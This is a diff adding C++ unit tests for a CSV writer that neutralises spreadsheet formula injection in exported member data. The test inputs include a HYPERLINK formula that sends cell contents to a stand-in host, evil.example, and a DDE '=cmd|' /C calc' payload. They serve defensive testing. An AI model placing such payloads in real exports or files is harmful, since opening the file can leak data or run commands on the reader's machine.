@@ -859,3 +859,66 @@ TEST_CASE("export: CSV is read by python csv and JSON is an array of member obje
     const QByteArray header = exportBytes(empty, ExportFormat::Csv, true);
     CHECK(header == MemberImporter::fieldNames().join(u',').toUtf8() + "\r\n");
 }
+
+TEST_CASE("csv: text that a spreadsheet would run as a formula is neutralised, numbers never", "[csv][formula]")
+{
+    QBuffer buffer;
+    buffer.open(QIODevice::WriteOnly);
+    CsvWriter csv(buffer);
+    csv.addField(QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"));
+    csv.addField(QStringLiteral("+SUM(1,2)"));
+    csv.addField(QStringLiteral("@SUM(1)"));
+    csv.addField(QStringLiteral("-2+3"));
+    csv.addField(QStringLiteral("\tcalc"));
+    csv.addField(QStringLiteral("\rcalc"));
+    csv.addField(QStringLiteral("'=already quoted"));
+    csv.addField(QStringLiteral("Plain text, with a comma"));
+    csv.addNumber(QStringLiteral("-3.50"));
+    csv.addNumber(QStringLiteral("+7"));
+    REQUIRE(csv.endRow());
+    REQUIRE(csv.flush());
+    const QString text = QString::fromUtf8(buffer.data());
+    CHECK(text == QStringLiteral("\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&B2,\"\"Click me\"\")\","
+                                 "\"'+SUM(1,2)\",'@SUM(1),'-2+3,\"'\tcalc\",\"'\rcalc\",''=already quoted,"
+                                 "\"Plain text, with a comma\",-3.50,+7\r\n"));
+    // Our reader gives back exactly what was written.
+    const CsvTable table = readOk("h1,h2,h3,h4,h5,h6,h7,h8,h9,h10\r\n" + buffer.data());
+    REQUIRE(table.records.size() == 1);
+    const CsvRecord &r = table.records.first();
+    CHECK(r.field(0) == QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"));
+    CHECK(r.field(1) == QStringLiteral("+SUM(1,2)"));
+    CHECK(r.field(2) == QStringLiteral("@SUM(1)"));
+    CHECK(r.field(4) == QStringLiteral("\tcalc"));
+    CHECK(r.field(6) == QStringLiteral("'=already quoted"));
+    CHECK(r.field(7) == QStringLiteral("Plain text, with a comma"));
+    CHECK(r.field(8) == QStringLiteral("-3.50"));
+    // A quote that protects nothing is left alone.
+    CHECK(CsvWriter::restored(QStringLiteral("'Tis the season")) == QStringLiteral("'Tis the season"));
+    CHECK_FALSE(CsvWriter::isFormulaLike(QStringLiteral("'Tis")));
+}
+
+TEST_CASE("export: formula-like names and offers are neutralised and import back as they were", "[csv][formula]")
+{
+    TempHub source;
+    MemberDraft evil = draft(QStringLiteral("=HYPERLINK(\"http://evil.example/?x=\"&B2,\"Click me\")"),
+                             QStringLiteral("evil@example.org"), true, true, true);
+    evil.phone = QStringLiteral("+44 20 7946 0000");
+    evil.notes = QStringLiteral("@SUM(1)");
+    addMember(source, evil, {}, {QStringLiteral("=cmd|' /C calc'!A0")}, {QStringLiteral("+SUM(1,2)")});
+    const QByteArray csv = exportBytes(source, ExportFormat::Csv, true);
+    const QString text = QString::fromUtf8(csv);
+    INFO(text.toStdString());
+    CHECK(text.contains(QStringLiteral("\"'=HYPERLINK(")));
+    CHECK(text.contains(QStringLiteral("'@SUM(1)")));
+    CHECK(text.contains(QStringLiteral("'+44 20 7946 0000")));
+    CHECK_FALSE(text.contains(QStringLiteral(",=")));
+    CHECK_FALSE(text.contains(QStringLiteral(",+")));
+    CHECK_FALSE(text.contains(QStringLiteral(",@")));
+    CHECK_FALSE(text.contains(QStringLiteral(",\"=")));
+
+    TempHub target;
+    const ImportReport r = importOk(target, csv);
+    INFO(problemsText(r).toStdString());
+    REQUIRE(r.ok());
+    CHECK(describeAll(target) == describeAll(source));
+}
